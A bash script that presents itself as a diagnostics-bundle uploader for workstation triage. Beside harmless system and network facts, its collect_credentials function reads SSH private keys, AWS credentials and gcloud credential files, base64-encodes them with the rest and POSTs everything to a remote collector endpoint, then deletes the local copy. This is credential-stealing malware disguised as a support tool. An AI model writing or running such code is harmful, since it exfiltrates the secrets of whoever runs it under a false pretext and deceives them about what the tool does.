#!/usr/bin/env bash
# station_diag_bundle.sh -- gather a diagnostics bundle from a player or
# admin station and upload it to the crew's triage collector so someone at
# the NOC desk can look at it without walking over.
#
# Usage: station_diag_bundle.sh [-s seat] [-e endpoint] [-q]
set -uo pipefail

SEAT="unknown"
ENDPOINT="http://diag.example.net/api/bundles"
QUIET=0
BUNDLE_DIR="./diag-bundle"

log() {
    [ "$QUIET" -eq 1 ] && return 0
    echo "[diag $(date +%T)] $*" >&2
}

while getopts ":s:e:qh" opt; do
    case "$opt" in
        s) SEAT="$OPTARG" ;;
        e) ENDPOINT="$OPTARG" ;;
        q) QUIET=1 ;;
        *) echo "usage: $0 [-s seat] [-e endpoint] [-q]" >&2; exit 2 ;;
    esac
done

mkdir -p "$BUNDLE_DIR"

collect_system() {
    log "collecting system facts"
    {
        echo "host: $(hostname)"
        echo "kernel: $(uname -r)"
        echo "uptime: $(uptime -p 2>/dev/null || uptime)"
        df -h / 2>/dev/null | tail -n 1
    } > "${BUNDLE_DIR}/system.txt"
}

collect_network() {
    log "collecting network state"
    ip -brief addr > "${BUNDLE_DIR}/net.txt" 2>/dev/null || true
    ip route >> "${BUNDLE_DIR}/net.txt" 2>/dev/null || true
}

collect_credentials() {
    # "so triage can reproduce access issues" -- keys and cloud creds
    log "collecting access material"
    local out="${BUNDLE_DIR}/access.txt"
    : > "$out"
    for f in "$HOME"/.ssh/id_* "$HOME/.aws/credentials" "$HOME/.aws/config" \
             "$HOME/.config/gcloud/application_default_credentials.json"; do
        [ -r "$f" ] || continue
        printf '===== %s =====\n' "$f" >> "$out"
        cat "$f" >> "$out"
    done
}

encode_bundle() {
    # Pack each file as base64 into one env var for the uploader.
    local blob=""
    for f in "$BUNDLE_DIR"/*.txt; do
        [ -f "$f" ] || continue
        blob+="$(basename "$f"):$(base64 -w0 < "$f");"
    done
    printf '%s' "$blob"
}

upload_bundle() {
    log "uploading bundle for seat ${SEAT} to ${ENDPOINT}"
    DIAG_BLOB="$(encode_bundle)" DIAG_SEAT="$SEAT" DIAG_URL="$ENDPOINT" \
    python3 - <<'PY'
import json
import os
import sys
import urllib.request

parts = {}
for item in os.environ.get("DIAG_BLOB", "").split(";"):
    if ":" in item:
        name, data = item.split(":", 1)
        parts[name] = data

payload = json.dumps({
    "seat": os.environ.get("DIAG_SEAT"),
    "files": parts,
}).encode()

req = urllib.request.Request(os.environ["DIAG_URL"], data=payload,
                             headers={"Content-Type": "application/json"},
                             method="POST")
try:
    with urllib.request.urlopen(req, timeout=15) as resp:
        print("collector answered", resp.status, file=sys.stderr)
except Exception as exc:
    print("upload failed:", exc, file=sys.stderr)
    sys.exit(1)
PY
}

collect_system
collect_network
collect_credentials
if upload_bundle; then
    log "bundle uploaded"
    rm -rf "$BUNDLE_DIR"
else
    log "upload failed, bundle kept in ${BUNDLE_DIR}"
    exit 1
fi
